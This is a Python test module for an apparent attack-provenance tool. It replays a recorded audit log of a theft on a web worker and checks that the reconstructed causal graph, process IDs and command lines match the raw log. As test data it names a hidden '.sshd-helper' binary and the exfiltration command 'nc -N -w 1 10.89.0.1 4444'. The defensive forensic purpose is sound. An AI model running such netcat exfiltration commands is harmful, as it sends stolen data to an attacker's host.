"""A recorded theft: what the local store says of its last steps is what the dumped graph and the raw log say."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import networkx
import pytest

from agent.containers import Containers
from agent.instances import Instances
from agent.pipeline import Pipeline
from agent.recording import open_recording, read_log
from agent.upg import Scope
from grammar import Evidence, Model, Span
from grammar.control import Question, Reply
from winnower.dump import Dump, WorkerDump

ALERTS = {"helper": "File /usr/bin/.sshd-helper", "theft": "Socket 10.89.0.1:4444"}


class Both:
    """A recorder for two: the store under test and the dump."""

    def __init__(self, store: Instances, dump: WorkerDump) -> None:
        self.store, self.dump = store, dump

    def vertex(self, scope: Scope, number: int, label: str, ident: str) -> None:
        self.store.vertex(scope, number, label, ident)
        self.dump.vertex(scope, number, label, ident)

    def sealed(self, scope: Scope, number: int, state: int) -> None:
        self.store.sealed(scope, number, state)
        self.dump.sealed(scope, number, state)

    def edge(self, scope: Scope, effect: int, kind: int, cause: int, millis: int) -> None:
        self.store.edge(scope, effect, kind, cause, millis)
        self.dump.edge(scope, effect, kind, cause, millis)

    def command(self, ident: str, text: str) -> None:
        self.store.command(ident, text)


@dataclass(frozen=True)
class Played:
    store: Instances
    pipeline: Pipeline
    graph: Any
    log: bytes

    def ask(self, label: str, direction: Any = "ancestors") -> Reply:
        states = tuple(state for state in self.pipeline.node.states["web"].states if state[0] == label)
        return self.store.answer(Question(b"q", "web", states, direction, limit=20_000), 60)


@pytest.fixture(scope="module")
def played(shared: Path, recording_log: Callable[[str, str], Path], tmp_path_factory: pytest.TempPathFactory) -> Played:
    """Worker 3 of `web`, recorded by the store and by a dump side by side."""
    path, folder = recording_log("web", "worker3"), tmp_path_factory.mktemp("played")
    dump, store = Dump(), Instances(folder / "store", "worker3")
    known = open_recording(shared / "recordings" / "web").containers["worker3"]
    pipeline = Pipeline(Containers.of(known), 10_000, recorder=Both(store, dump.of("worker3")))
    evidence: dict[str, Evidence] = {}
    epochs = [epoch for chunk in read_log(path) for epoch in pipeline.feed(chunk)]
    for number, epoch in enumerate([*epochs, *pipeline.finish()]):
        for app, delta in epoch.deltas.items():
            told = delta.evidence("worker3", Span(epoch.start, epoch.start + epoch.length))
            evidence[app] = evidence.get(app, Evidence()) | told
        if number == len(epochs) // 2:
            store.cut(number)
    dump.write(folder, {app: Model.of(app, one) for app, one in evidence.items()})
    value = json.loads((folder / "web.instance.json").read_bytes())
    return Played(store, pipeline, networkx.node_link_graph(value, edges="edges"), path.read_bytes())


def ids(reply: Reply) -> set[str]:
    return {f"worker3/{one.container}/{one.number & ((1 << 40) - 1)}" for one in reply.instances}


@pytest.mark.parametrize("label", ALERTS.values(), ids=ALERTS)
def test_its_causes_are_those_of_the_dumped_graph(played: Played, label: str) -> None:
    reply = played.ask(label)
    asked = [node for node, named in played.graph.nodes(data="label") if named == label]
    expected = set(asked).union(*(networkx.descendants(played.graph, node) for node in asked))
    assert asked
    assert ids(reply) == expected
    inside = played.graph.subgraph(expected)
    assert len(reply.links) == inside.number_of_edges()
    assert not reply.cut


def test_its_effects_are_those_of_the_dumped_graph(played: Played) -> None:
    reply = played.ask("File /tmp/.x", "descendants")
    asked = [node for node, named in played.graph.nodes(data="label") if named == "File /tmp/.x"]
    assert ids(reply) == set(asked).union(*(networkx.ancestors(played.graph, node) for node in asked))


@pytest.mark.parametrize("label", ALERTS.values(), ids=ALERTS)
def test_pids_programs_and_times_are_those_of_the_raw_log(played: Played, label: str) -> None:
    processes = [one for one in played.ask(label).instances if one.label.startswith("Process ")]
    assert len(processes) > 5
    calls = [line for line in played.log.splitlines() if line.startswith(b"type=SYSCALL ")]
    for one in processes:
        moment = [line for line in calls if b"audit(%d.%03d:" % divmod(one.time, 1_000) in line]
        assert any(b" pid=%d " % one.pid in line for line in moment)
        if "/" in one.name:  # until its first exec a child is what its parent was, and the log need not show that
            comm = b'comm="%s"' % one.label.split(" ")[1].encode()
            assert any(b" pid=%d " % one.pid in line and comm in line for line in calls)


def test_the_command_line_of_the_theft_is_told_with_its_pid(played: Played) -> None:
    told = {one.command: one.pid for one in played.ask(ALERTS["theft"]).instances if one.command}
    pid = told["nc -N -w 1 10.89.0.1 4444"]
    execs = [line for line in played.log.splitlines() if b'a0="nc"' in line and b"type=EXECVE" in line]
    serials = {re.findall(rb"audit\([^)]*\)", line)[0] for line in execs}
    assert any(
        b" pid=%d " % pid in line and any(serial in line for serial in serials) for line in played.log.splitlines()
    )
